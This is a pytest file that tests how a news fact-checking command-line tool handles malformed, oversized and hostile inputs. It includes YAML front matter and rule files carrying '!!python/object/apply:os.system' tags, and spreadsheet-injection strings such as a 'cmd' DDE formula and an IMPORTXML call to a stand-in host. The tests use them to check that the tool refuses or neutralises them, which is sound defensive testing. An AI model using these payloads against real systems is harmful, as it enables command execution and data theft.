"""Reliability end to end: bad input is skipped with one line each, outputs are never half
written, spreadsheets never run a formula, YAML never builds an object, and `--strict` fails
a CI run on any of it. Unit tests of each piece live with their module's tests."""

from __future__ import annotations

import codecs
import importlib.util
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from factcheck.errors import RuleError
from factcheck.io import documents
from factcheck.run.api import load_rules

REPO = Path(__file__).resolve().parents[1]
runner = CliRunner(env={"COLUMNS": "200", "NO_COLOR": "1"})
IS_ROOT = os.name == "posix" and os.geteuid() == 0


def factcheck(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """The command as a user runs it: real exit codes, stderr apart from stdout."""
    return subprocess.run([sys.executable, "-m", "factcheck", *args], capture_output=True,
                          text=True, check=False, cwd=cwd, env=_env())


def _env() -> dict[str, str]:
    return {"NO_COLOR": "1", "PATH": "", "PYTHONPATH": str(REPO)}


def skipped_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("factcheck: skipped ")]


# --------------------------------------------------------------------------- a folder of everything


def make_news_folder(root: Path) -> tuple[list[str], dict[str, str]]:
    """`root/news`: good reports beside one of every kind of bad input.

    Returns the diagnostics expected, in order, and for each good report a quote its claim
    must have (proving it was decoded right).
    """
    news = root / "news"
    (news / "sub").mkdir(parents=True)
    for seed in sorted((REPO / "seeds").glob("*.txt")):
        shutil.copy(seed, news / seed.name)
    # Good reports in legacy and wide encodings: read, not skipped.
    (news / "cp1252.txt").write_bytes(
        "Café owners said at least 4 people were injured on the Champs-Élysées, the mayor’s "
        "office said.\r\n".encode("cp1252"))
    (news / "latin1.md").write_bytes(
        "---\nsource: Le Monde\ndate: 2024-01-06\n---\nOfficials in Montréal said 5 people "
        "were arrested.\n".encode("latin-1"))
    (news / "utf16.txt").write_bytes(
        codecs.BOM_UTF16_LE + "Rescuers in Malmö said 7 people were missing.\n".encode("utf-16-le"))
    (news / "baddate.md").write_text(
        "---\nsource: Wire\ndate: sometime in spring\n---\nOfficials said 9 people were "
        "displaced.\n")  # kept, its date dropped
    (news / "corpus.jsonl").write_text(
        '{"id": "a", "source": "AP", "text": "Police said 6 people were killed."}\n'
        '{not json\n'
        '{"title": "a record without text"}\n')
    (news / "wire.csv").write_text("id,body\n1,Police said 3 people were killed.\n")
    (news / "sub/report.txt").write_text("The ministry said 8 people were arrested.\n")
    (news / "sub/sources.csv").write_text(
        "file,source,date\nreport.txt,Ministry,2024-01-09\ngone.txt,Nobody,2024-01-09\n")
    # Bad files: each is skipped with one line.
    (news / "mixed.txt").write_bytes(
        "Zürich: ".encode() + "Café owners said 3 people were hurt.".encode("latin-1"))
    (news / "image.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00")
    (news / "empty.txt").write_bytes(b"")
    with open(news / "huge.txt", "wb") as handle:  # 200 MB, sparse: no disk used
        handle.truncate(200 * 1024 * 1024)
    (news / "broken.md").write_text("---\nsource: [unclosed\n---\nOfficials said 2 died.\n")
    (news / "evil.md").write_text(
        "---\nsource: !!python/object/apply:os.system ['touch PWNED']\n---\n"
        "Officials said 2 people were killed.\n")
    (news / "loop").symlink_to(".", target_is_directory=True)
    (news / "self.txt").symlink_to("self.txt")
    os.mkfifo(news / "pipe.txt")
    expected = [
        "news/baddate.md:3: date 'sometime in spring' is not a date",
        "news/broken.md:3: invalid YAML: expected ',' or ']', but got '<stream end>'",
        "news/corpus.jsonl:2: not JSON (Expecting property name enclosed in double quotes)",
        "news/corpus.jsonl:3: record has no 'text'",
        "news/empty.txt: empty report",
        "news/evil.md:2: invalid YAML: could not determine a constructor for the tag "
        "'tag:yaml.org,2002:python/object/apply:os.system'",
        "news/huge.txt: too large: 200.0 MB, over the 10.0 MB limit for one report (split it, "
        "or make it a JSONL corpus)",
        "news/image.txt:2: not text: control byte 0x1a (binary data)",
    ]
    if not IS_ROOT:  # root reads anything, so permissions would prove nothing
        (news / "locked.txt").write_text("Officials said 1 person died.\n")
        (news / "locked.txt").chmod(0)
        (news / "sealed").mkdir()
        (news / "sealed").chmod(0)
        expected.append("news/locked.txt: cannot read: Permission denied")
    expected += [
        "news/loop: symlink loop back to news; not followed",
        "news/mixed.txt:1: not UTF-8 text (invalid byte 0xe9) though other parts are: mixed or "
        "damaged encodings; save it as UTF-8",
        "news/pipe.txt: not a regular file (a device, pipe or socket)",
    ]
    if not IS_ROOT:
        expected.append("news/sealed: cannot read folder: Permission denied")
    expected += [
        "news/self.txt: cannot read: Too many levels of symbolic links",
        "news/sub/sources.csv:3: file 'gone.txt' does not exist",
        "news/wire.csv:1: no 'text' column (columns: id, body)",
    ]
    good = {
        "news/cp1252.txt": "Café owners said at least 4 people were injured on the Champs-Élysées",
        "news/latin1.md": "Officials in Montréal said 5 people were arrested",
        "news/utf16.txt": "Rescuers in Malmö said 7 people were missing",
        "news/baddate.md": "Officials said 9 people were displaced",
        "news/corpus.jsonl#a": "Police said 6 people were killed",
        "news/sub/report.txt": "The ministry said 8 people were arrested",
    }
    return expected, good


@pytest.fixture
def news(tmp_path: Path) -> Iterator[tuple[list[str], dict[str, str]]]:
    if not hasattr(os, "mkfifo") or not hasattr(os, "symlink"):
        pytest.skip("needs FIFOs and symlinks")
    made = make_news_folder(tmp_path)
    yield made
    for locked in (tmp_path / "news/locked.txt", tmp_path / "news/sealed"):
        if locked.exists() or locked.is_symlink():
            locked.chmod(0o755)  # so that pytest can clean up


def test_a_folder_of_every_bad_input_gives_the_good_claims_and_one_line_per_bad_input(
    tmp_path: Path, news: tuple[list[str], dict[str, str]]
) -> None:
    expected, good = news
    started = time.perf_counter()
    result = factcheck("report", "news", "--out", "out", "--format", "json", cwd=tmp_path)
    assert time.perf_counter() - started < 20  # the 200 MB file costs nothing
    assert result.returncode == 3, result.stderr
    assert "Traceback" not in result.stderr
    assert skipped_lines(result.stderr) == [f"factcheck: skipped {line}" for line in expected]
    assert len(result.stderr.splitlines()) == len(expected)  # nothing but the diagnostics
    payload = json.loads(result.stdout)
    quotes = {claim["doc"]: claim["quote"] for claim in payload["claims"]}
    for doc, quote in good.items():
        assert quotes.get(doc) == quote, doc
    seeds = {claim["doc"] for claim in payload["claims"] if "/0" in claim["doc"]}
    assert seeds == {"news/000_ec9eebed83796c36.txt", "news/004_e2a0f961c55ed4a7.txt"}
    assert payload["findings"]  # the seeds' discrepancies are still found
    assert not (tmp_path / "PWNED").exists()  # the YAML tag was never run
    claims = pd.read_csv(tmp_path / "out/claims.csv", encoding="utf-8-sig")
    assert len(claims) == len(payload["claims"])
    assert sorted(os.listdir(tmp_path / "out")) == [".factcheck-output", "claims.csv",
                                                    "findings.csv", "report.html"]


def test_strict_stops_after_loading_with_every_diagnostic_and_writes_nothing(
    tmp_path: Path, news: tuple[list[str], dict[str, str]]
) -> None:
    expected, _ = news
    out = tmp_path / "out"
    out.mkdir()
    (out / "claims.csv").write_text("last run's claims\n")
    (out / "findings.csv").write_text("last run's findings\n")
    result = factcheck("claims", "news", "--out", "out", "--strict", cwd=tmp_path)
    assert result.returncode == 3
    assert result.stdout == ""
    assert result.stderr.splitlines() == [
        *(f"factcheck: skipped {line}" for line in expected),
        f"factcheck: error: --strict: stopped on {len(expected)} skipped inputs; nothing written",
    ]
    assert (out / "claims.csv").read_text() == "last run's claims\n"
    assert (out / "findings.csv").read_text() == "last run's findings\n"
    assert sorted(os.listdir(out)) == ["claims.csv", "findings.csv"]


def test_when_nothing_can_be_read_every_diagnostic_is_still_printed(tmp_path: Path) -> None:
    (tmp_path / "binary.txt").write_bytes(b"\x00\x01")
    (tmp_path / "empty.txt").write_bytes(b"")
    (tmp_path / "bad.jsonl").write_text("{not json\n")
    result = factcheck("report", "binary.txt", "empty.txt", "bad.jsonl", cwd=tmp_path)
    assert result.returncode == 2
    assert result.stderr.splitlines()[:3] == [
        "factcheck: skipped binary.txt:1: not text: NUL byte (binary data, or UTF-16 without a "
        "byte-order mark)",
        "factcheck: skipped empty.txt: empty report",
        "factcheck: skipped bad.jsonl:1: not JSON (Expecting property name enclosed in double "
        "quotes)",
    ]
    assert result.stderr.splitlines()[3].startswith(
        "factcheck: error: no reports found in binary.txt, empty.txt, bad.jsonl; skipped ")
    assert len(result.stderr.splitlines()) == 4


def test_strict_on_clean_input_is_an_ordinary_run(tmp_path: Path, seeds_dir: Path) -> None:
    from factcheck.cli.app import app

    for command in ("report", "claims"):
        result = runner.invoke(app, [command, str(seeds_dir), "--strict", "--out",
                                     str(tmp_path / command), "--format", "json"])
        assert result.exit_code == 0, result.output
        assert (tmp_path / command / "claims.csv").is_file()


def test_strict_eval_stops_before_scoring(tmp_path: Path) -> None:
    from factcheck.cli.app import app

    story = tmp_path / "story"
    story.mkdir()
    (story / "gold.yaml").write_text("claims: []\n")
    (story / "r1.md").write_text("Officials said 3 people were killed.\n")
    (story / "r2.md").write_bytes(b"\x00binary")
    lenient = runner.invoke(app, ["eval", str(story), "--format", "json"])
    assert lenient.exit_code == 3 and json.loads(lenient.stdout)["total"]
    strict = runner.invoke(app, ["eval", str(story), "--format", "json", "--strict"])
    assert strict.exit_code == 3 and strict.stdout == ""
    assert strict.stderr.splitlines()[-1] == (
        "factcheck: error: --strict: stopped on 1 skipped input; nothing written")


# --------------------------------------------------------------------------- atomic outputs

# Runs the real entry point, but the second table written (findings) stalls after a few rows:
# the test interrupts the run there, with the claims already complete in their temporary file.
STALLING_RUN = '''
import sys, time
from factcheck.cli import app as cli
from factcheck.run import pipeline

marker = sys.argv[1]

def stalls_while_writing_the_findings(self):
    # claims.csv is written; findings.csv half begun: the worst moment to be stopped
    self._findings_file.write("finding_id\\n")
    self._findings_file.flush()
    open(marker, "w").close()
    time.sleep(60)

pipeline.CsvSink.finish = stalls_while_writing_the_findings
sys.argv = ["factcheck", *sys.argv[2:]]
cli.main()
'''


@pytest.mark.skipif(os.name != "posix", reason="POSIX signals")
@pytest.mark.parametrize(("signal_name", "exit_code"),
                         [("SIGINT", 130), ("SIGTERM", 143), ("SIGKILL", None)])
def test_a_run_interrupted_while_writing_leaves_the_old_outputs_untouched(
    tmp_path: Path, seeds_dir: Path, signal_name: str, exit_code: int | None
) -> None:
    sent = getattr(signal, signal_name)
    out = tmp_path / "out"
    out.mkdir()
    old = {"claims.csv": b"claim_id\nold\n", "findings.csv": b"finding_id\nold\n"}
    for name, content in old.items():
        (out / name).write_bytes(content)
    script, marker = tmp_path / "stalling_run.py", tmp_path / "writing"
    script.write_text(STALLING_RUN)
    process = subprocess.Popen(
        [sys.executable, str(script), str(marker), "report", str(seeds_dir), "--out", str(out),
         "--format", "json"],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, env=_env())
    try:
        deadline = time.monotonic() + 60
        while not marker.exists():
            assert process.poll() is None, process.stderr.read() if process.stderr else ""
            assert time.monotonic() < deadline, "the run never started writing"
            time.sleep(0.02)
        process.send_signal(sent)
        process.wait(timeout=30)
    finally:
        process.kill()
        process.wait()
    stderr = process.stderr.read() if process.stderr else ""
    assert "Traceback" not in stderr
    for name, content in old.items():
        assert (out / name).read_bytes() == content, name  # neither replaced nor truncated
    left = sorted(os.listdir(out))
    if exit_code is None:
        # SIGKILL cannot be caught: a hidden temporary file may stay, never a half output.
        assert process.returncode == -signal.SIGKILL
        assert all(name in old or (name.startswith(".") and name.endswith(".tmp"))
                   for name in left)
    else:
        assert process.returncode == exit_code, stderr
        assert left == ["claims.csv", "findings.csv"]  # the temporary files were removed
        # one line: what was stopped, and that the old outputs are intact
        assert stderr == (f"factcheck: interrupted ({signal_name}): factcheck report stopped; "
                          "no output was replaced: the old files are intact\n")


# --------------------------------------------------------------------------- spreadsheet safety

HOSTILE = (
    "=cmd|' /C calc'!A0 and 12 people were killed on Monday.\n\n"
    "@SUM officials said at least 30 people were injured.\n\n"
    "-Police said 5 people were arrested.\n\n"
    "+HYPERLINK said 3 people were missing.\n\n"
    "\tSome 40 people were displaced, the agency said.\n"
)


def test_hostile_quotes_from_a_report_are_neutralised_and_numbers_stay_numbers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from factcheck.cli.app import app

    monkeypatch.chdir(tmp_path)
    Path("=HYPERLINK(1).txt").write_text(HOSTILE)  # a file name is a cell too
    Path("front.md").write_text(
        '---\nsource: "=IMPORTXML(CONCAT(\\"http://x.example/?\\", A1), \\"//a\\")"\n---\n'
        "Officials said 14 people were killed.\n")
    result = runner.invoke(app, ["claims", "=HYPERLINK(1).txt", "front.md", "--out", "out",
                                 "--format", "json"])
    assert result.exit_code == 0, result.output
    assert Path("out/claims.csv").read_bytes().startswith(codecs.BOM_UTF8)
    claims = pd.read_csv("out/claims.csv", encoding="utf-8-sig", keep_default_na=False, dtype=str)
    assert list(claims["quote"]) == [
        "'=cmd|' /C calc'!A0 and 12 people were killed on Monday",
        "'@SUM officials said at least 30 people were injured",
        "'-Police said 5 people were arrested",
        "'+HYPERLINK said 3 people were missing",
        "Some 40 people were displaced",  # the leading tab is not part of the clause
        "Officials said 14 people were killed",
    ]
    assert list(claims["doc"]) == ["'=HYPERLINK(1).txt"] * 5 + ["front.md"]
    assert claims.loc[1, "attributed_to"] == "'@SUM officials"
    assert claims.loc[5, "outlet"] == "'=IMPORTXML(CONCAT(\"http://x.example/?\", A1), \"//a\")"
    # Every text cell is safe, whatever its column; numbers are written as plain numbers.
    numeric = {"value", "low", "high", "line", "column"}
    for column in claims.columns:
        for cell in claims[column]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
            if column in numeric and cell:
                float(cell)  # not prefixed: a spreadsheet reads it as a number
    assert list(claims["value"]) == ["12", "30", "5", "3", "40", "14"]


# --------------------------------------------------------------------------- YAML safety


def test_python_tags_in_a_rule_file_are_refused_never_built(tmp_path: Path) -> None:
    sentinel = tmp_path / "PWNED"
    rules = tmp_path / "newsroom"
    rules.mkdir()
    (rules / "findings.yaml").write_text(
        "rules:\n  - code: FC102\n"
        f"    severity: !!python/object/apply:os.system ['touch {sentinel}']\n")
    with pytest.raises(RuleError) as caught:
        load_rules([rules])
    assert str(caught.value) == (
        f"{rules / 'findings.yaml'}:3: invalid YAML: could not determine a constructor for the "
        "tag 'tag:yaml.org,2002:python/object/apply:os.system'")
    result = factcheck("report", "--rules", str(rules), cwd=tmp_path)
    assert result.returncode == 2
    assert result.stderr.splitlines() == [f"factcheck: error: {caught.value}"]
    assert not sentinel.exists()


@pytest.mark.parametrize("tag", ["!!python/object:os.system", "!!python/name:os.system",
                                 "!!python/object/new:os.system ['true']"])
def test_python_tags_in_front_matter_are_refused_never_built(tmp_path: Path, tag: str) -> None:
    (tmp_path / "a.md").write_text(f"---\ntitle: ok\nsource: {tag}\n---\n12 people died.\n")
    (tmp_path / "b.md").write_text("12 people died.\n")
    result = documents.load_documents([tmp_path / "a.md", tmp_path / "b.md"])
    assert [Path(d.doc).name for d in result.documents] == ["b.md"]
    (problem,) = result.problems
    assert problem.line == 3 and "\n" not in str(problem)
    assert problem.message.startswith("invalid YAML: could not determine a constructor for the "
                                      "tag 'tag:yaml.org,2002:python/")


# --------------------------------------------------------------------------- the fuzzer runs


def test_the_fuzzer_runs_and_finds_nothing_in_a_short_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    script = REPO / "bench" / "fuzz.py"
    if not script.is_file():
        pytest.skip("bench/ is not in this copy (an sdist)")
    spec = importlib.util.spec_from_file_location("bench_fuzz", script)
    assert spec is not None and spec.loader is not None
    fuzz = importlib.util.module_from_spec(spec)
    monkeypatch.setitem(sys.modules, "bench_fuzz", fuzz)  # its dataclasses look themselves up
    spec.loader.exec_module(fuzz)
    tally = fuzz.fuzz(1.0, seed=7, crashes_dir=tmp_path / "crashes", timeout=20,
                      report=lambda line: None)
    assert tally.tried > 10
    assert [crash.where for crash in tally.crashes] == []
